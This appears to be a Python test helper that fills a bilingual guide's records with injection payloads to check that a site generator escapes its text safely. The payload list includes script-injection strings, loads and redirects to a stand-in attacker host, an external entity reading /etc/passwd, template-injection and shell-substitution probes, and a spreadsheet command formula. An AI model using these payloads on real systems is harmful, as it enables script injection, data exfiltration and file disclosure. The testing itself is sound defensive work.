"""What somebody may write who wants a text to do more than be read; as data, each short enough for nearly every field.

`hostile_library` gives a Guide of which every text of every kind of record ends with one of them.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import yaml

from tests.project import CASE, ENGAGEMENT_REPORT, EXCHANGE_REPORT, MINIMAL
from tests.unit.samples import MESSAGE, MESSAGE_TEXT, MILESTONE_TEXT

PAYLOADS = (
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "<svg/onload=alert(1)>", '<iframe srcdoc="<script>alert(1)</script>">', "<a href=javascript:alert(1)>x</a>",
    "<img src=//evil.example.ca/x.png>", "<link rel=stylesheet href=//evil.example.ca/x>", "<style>@import'//evil.example.ca/x'</style>",
    '<meta http-equiv=refresh content="0;url=//evil.example.ca">', "<base href=//evil.example.ca/>", "<form action=//evil.example.ca><input autofocus>", "<details open ontoggle=alert(1)>",
    "<object data=//evil.example.ca/x>", "<math><mi xlink:href=javascript:alert(1)>x", "<template><script>alert(1)</script></template>", '<noscript><p title="</noscript><img src=x>',
    "--><script>alert(1)</script><!--", "<!--guide:main--></main>", "]]><script>alert(1)</script><![CDATA[", "<?xml-stylesheet href='//evil.example.ca'?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "&amp;lt;b&amp;gt;",
    "{{ 7*7 }}{% raw %}{{ config }}", "{# x #}{{ x.__class__.__mro__ }}", "${7*7} #{7*7} <%= 7*7 %> $(id) `id`", "{0.__class__} {t} %s %(a)s", '--8<-- "mkdocs.yml"', "!ENV [HOME, x]", "\\input{x} $x^2$ @misc{x}",
    "=cmd|' /C calc'!A0", "' onmouseover='alert(1)' x='", '" autofocus onfocus="alert(1)', "javascript:alert(1)", '\\"};alert(1);//', "`-alert(1)-`", "jaVasCript:/*`*/(alert(1))//",
    "\r\nSet-Cookie: x=1".strip(), "a@example.ca?cc=b@example.ca&body=x", "%0d%0aBcc: x@example.ca", "BEGIN:VCARD", "TY  - BOOK",
)
# Short enough for a field of thirty characters.
SHORT = tuple(payload for payload in PAYLOADS if len(payload) <= 26)
# Fields in two languages that are no texts.
_ADDRESSES = ("slug", "page")


def _texts(data: object, name: str = "") -> Iterator[tuple[dict, str]]:
    """Each text in two languages, with the name of its field."""
    if isinstance(data, dict) and set(data) <= {"en", "fr", "translated"} and name not in _ADDRESSES:
        yield data, name
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from _texts(value, key)
    elif isinstance(data, list):
        for value in data:
            yield from _texts(value, name)


def with_payloads(record: str, start: int) -> tuple[str, int]:
    """A record whose texts end with payloads, the next one for each text; and the number of the next."""
    data = yaml.load(record, yaml.BaseLoader)
    for texts, name in _texts(data):
        payload = (SHORT if name in ("acronym", "unit", "label") else PAYLOADS)
        for language in ("en", "fr"):
            texts[language] = f"{texts[language]} {payload[start % len(payload)]}"
        start += 1
    return json.dumps(data, ensure_ascii=False), start


MORE = """\
success_factors: [{en: It helped., fr: Cela a aidé.}]
challenges: [{en: It was hard., fr: C'était difficile.}]
what_did_not_work: [{en: It failed., fr: C'est un échec.}]
lessons: [{en: We learned., fr: On a appris.}]
replication:
  agreement: {en: A letter., fr: Une lettre.}
  steps: {en: One step., fr: Une étape.}
  roles: {en: One role., fr: Un rôle.}
  effort: {en: Little., fr: Peu.}
  cost: {en: Nothing., fr: Rien.}
  conditions: {en: None yet., fr: Aucune encore.}
  transferable: {en: The plan., fr: Le plan.}
related:
  - case: second
    reason: {en: It is near., fr: Elle est proche.}
replicates: second
"""
SUPPORTED = "".join(f"      - {field}\n" for field in ("success_factors", "challenges", "what_did_not_work", "lessons", "replication"))
CASES = {
    "counter": CASE.replace("what_did_not_work: unknown\n", "").replace("      - results\n", "      - results\n" + SUPPORTED) + MORE,
    "second": CASE.replace("shared-counter", "second").replace("comptoir-partage", "deuxieme"),
}
STATEMENT = "  - text: {en: It shows., fr: On le voit.}\n    cases: [counter]\n"
RECORDS = {
    **{name: text for name, text in MINIMAL.items() if name.startswith("guide_data/")},
    **{f"guide_data/case_studies/{name}.yml": text for name, text in CASES.items()},
    "guide_data/exchange_reports/town.yml": EXCHANGE_REPORT, "guide_data/engagement_reports/town.yml": ENGAGEMENT_REPORT,
    "guide_data/milestones/first.yml": MILESTONE_TEXT, MESSAGE: MESSAGE_TEXT,
    "guide_data/vocabulary/arrangement.yml": MINIMAL["guide_data/vocabulary/arrangement.yml"] + "    when_it_fits:\n" + "".join(f"    {line}\n" for line in STATEMENT.splitlines()),
    "guide_data/lessons/doors.yml": f"order: 1\ntitle: {{en: Doors, fr: Portes}}\nsummary: {{en: About doors., fr: Au sujet des portes.}}\npoints:\n{STATEMENT}modified: 2026-11-23\n",
    "guide_data/path_steps/begin.yml": """\
order: 1
title: {en: Begin, fr: Commencer}
summary: {en: Somebody has to., fr: Il le faut bien.}
checklist: [{id: door, text: {en: The door is open., fr: La porte est ouverte.}}]
guidance: [{url: "https://www.example.ca/guidance", title: {en: On doors, fr: Sur les portes}, language: en, seen_on: 2026-11-22, says: {en: Doors open., fr: Les portes s'ouvrent.}}]
cases: [{case: counter, reason: {en: It opened one., fr: On en a ouvert une.}}]
modified: 2026-11-24
""",
}


def hostile_library() -> dict[str, str]:
    """The files of a Guide in which every text of every record ends with a payload; all payloads are in it."""
    files, number = {}, 0
    for name, text in RECORDS.items():
        files[name], number = with_payloads(text, number)
    assert number > len(PAYLOADS)
    return files
